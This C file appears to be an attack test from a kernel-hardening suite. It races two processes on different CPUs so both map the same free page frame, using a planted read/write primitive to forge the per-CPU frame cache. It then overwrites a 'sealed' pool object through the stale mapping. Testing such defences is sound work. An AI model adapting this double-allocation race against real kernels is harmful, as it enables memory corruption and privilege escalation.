/*
 * Two processors get the same free frame, each for a page of its own process. Where the gate lets
 * both have it, it counts one page too few: it is free, and then a sealed pool's, while one of the
 * two still shows it.
 */
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum { CPU_OF_SECOND, CPU_OF_FIRST, NR_CPUS };
enum { STAGE_READY = 1, STAGE_TAKE, STAGE_TAKEN, STAGE_GIVE, STAGE_GIVEN, STAGE_OVER };
enum { NUMBER_BYTES = 4, NR_TO_TOUCH = 16 };

/* In memory that both processes have. */
static struct shared {
	attack_stage stage;
	struct bw_leak of_first; /* of the first one's processor */
} * shared;
static struct bw_leak leak;

static uint64_t read32(uint64_t at) { return (uint32_t)bw_vuln_read(at); }

static void store32(uint64_t at, uint64_t value)
{
	attack_check("vuln_store", bw_vuln_store(at, value, NUMBER_BYTES));
}

/* A page that is not there yet; its page table is. */
static char *page_to_come(void) { return (char *)attack_ranges(false) + BW_PAGE_SIZE; }

/* A processor's stock of frames is filled when a page is touched and the stock is empty. */
static void fill_stock(const struct bw_stock *stock)
{
	char *page = mmap(NULL, (size_t)NR_TO_TOUCH * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	for (int i = 0; page != MAP_FAILED && i < NR_TO_TOUCH && read32(stock->nr) == 0; i++) {
		*(volatile char *)(page + i * BW_PAGE_SIZE) = 1;
	}
}

/* The other process. */
static _Noreturn void be_first(void)
{
	char *page;

	attack_pin(CPU_OF_FIRST);
	page = page_to_come();
	attack_leak(&shared->of_first);
	fill_stock(&shared->of_first.frame_cache);
	attack_tell(&shared->stage, STAGE_READY);
	attack_await(&shared->stage, STAGE_TAKE, AWAIT_SPIN);
	*(volatile char *)page = 1;
	attack_tell(&shared->stage, STAGE_TAKEN);
	attack_await(&shared->stage, STAGE_GIVE, AWAIT_SPIN);
	munmap(page, BW_PAGE_SIZE);
	attack_tell(&shared->stage, STAGE_GIVEN);
	attack_await(&shared->stage, STAGE_OVER, AWAIT_YIELD);
	_exit(0);
}

/* The frame that the first one gets next. */
static uint64_t next_of_first(void)
{
	const struct bw_stock *stock = &shared->of_first.frame_cache;
	uint64_t nr = read32(stock->nr);

	if (nr == 0) {
		attack_skip("the other processor keeps no stock of frames");
	}
	return read32(stock->slots + (nr - 1) * NUMBER_BYTES);
}

/* Both take it: the second while the first has checked, and not written yet. */
static bool take_both(uint64_t pfn, char *page)
{
	uint64_t before;

	attack_held_ask(&leak, pfn);
	attack_tell(&shared->stage, STAGE_TAKE);
	while (shared->stage < STAGE_TAKEN && !attack_held_is_there(&leak)) {
		__builtin_ia32_pause();
	}
	before = attack_stock_forge(&leak.frame_cache, pfn);
	*(volatile char *)page = 1;
	attack_stock_return(&leak.frame_cache, before);
	attack_held_release(&leak);
	attack_await(&shared->stage, STAGE_TAKEN, AWAIT_SPIN);
	return attack_pfn(page) == pfn;
}

/* The first one's stock counts as full: what it gives back is for all. */
static void give_one(void)
{
	const struct bw_stock *stock = &shared->of_first.frame_cache;
	uint64_t nr = read32(stock->nr);

	store32(stock->nr, stock->nr_slots);
	attack_tell(&shared->stage, STAGE_GIVE);
	attack_await(&shared->stage, STAGE_GIVEN, AWAIT_SPIN);
	store32(stock->nr, nr);
}

/* A pool that is born sealed gets the frame, and the page shows it. */
static void overwrite_pool(uint64_t pfn, char *page)
{
	struct bw_sealed_object object = { .pfn = 0 };

	while (object.pfn != pfn && bw_vuln_pool_born(1, &object) == 0) {}
	if (object.pfn != pfn) {
		attack_skip("no pool got the frame");
	}
	attack_say("the sealed object at 0x%lx is in the page at 0x%lx, too: storing there",
		   object.object, (uintptr_t)page);
	*(volatile uint64_t *)(volatile void *)(page + object.object % BW_PAGE_SIZE) = 1;
	attack_say("the sealed object begins with %ld", bw_vuln_read(object.object));
}

int main(void)
{
	bool have_both;
	uint64_t pfn;
	pid_t first;
	char *page;

	attack_begin(&leak, NR_CPUS, CPU_OF_SECOND);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED) {
		attack_skip("no memory");
	}
	first = fork();
	if (first == 0) {
		be_first();
	}
	page = page_to_come();
	/* nothing of this process is read-only for the fork's sake when it counts */
	attack_leak(&leak);
	attack_await(&shared->stage, STAGE_READY, AWAIT_YIELD);
	pfn = next_of_first();
	attack_say("frame 0x%lx is the next for CPU %d, and shall be that for CPU %d, too", pfn,
		   CPU_OF_FIRST, CPU_OF_SECOND);
	have_both = take_both(pfn, page);
	attack_say("the second one got frame 0x%lx", attack_pfn(page));
	give_one();
	if (have_both) {
		overwrite_pool(pfn, page);
	}
	attack_tell(&shared->stage, STAGE_OVER);
	waitpid(first, NULL, 0);
	return attack_finish();
}
